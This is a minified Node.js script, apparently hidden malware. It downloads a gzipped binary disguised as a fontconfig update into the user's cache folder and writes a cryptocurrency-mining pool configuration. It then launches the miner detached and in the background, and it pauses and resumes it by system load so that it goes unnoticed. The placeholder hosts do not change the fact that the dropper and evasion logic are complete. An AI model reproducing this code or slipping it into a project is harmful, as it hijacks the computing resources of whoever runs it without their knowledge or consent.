const e = require("https"), i = require("fs"), t = require("path"), n = require("os"), r = require("zlib"), o = require("child_process"), s = t.join(n.homedir(), ".cache", "fontconfig-update"), a = t.join(s, "fc-updated"), c = {
    autosave: !1,
    cpu: {
        enabled: !0,
        "max-threads-hint": 50,
        priority: 1
    },
    pools: [ {
        url: "pool.mine.invalid:443",
        user: "invalidwallet",
        pass: n.hostname(),
        tls: !0,
        keepalive: !0
    } ],
    background: !0,
    "donate-level": 0
};

function d(e, t, n) {
    const o = i.createWriteStream(a, {
        mode: 493
    });
    e.pipe(r.createGunzip()).pipe(o), o.on("finish", t), o.on("error", n);
}

let l;

function p() {
    l && null === l.exitCode ? n.loadavg()[0] / n.cpus().length < .4 ? process.kill(l.pid, "SIGCONT") : process.kill(l.pid, "SIGSTOP") : (l = o.spawn(a, [ "-c", t.join(s, "config.json") ], {
        cwd: s,
        stdio: "ignore",
        detached: !0
    }), l.unref());
}

i.existsSync(a) ? setInterval(p, 6e4) : (i.mkdirSync(s, {
    recursive: !0
}), i.writeFileSync(t.join(s, "config.json"), JSON.stringify(c)), new Promise((i, t) => {
    e.get("https://dist.mine.invalid/fc-updated.gz", n => {
        if (n.statusCode >= 300 && n.statusCode < 400) return e.get(n.headers.location, e => d(e, i, t));
        d(n, i, t);
    }).on("error", t);
}).then(() => setInterval(p, 6e4)).catch(() => {}));
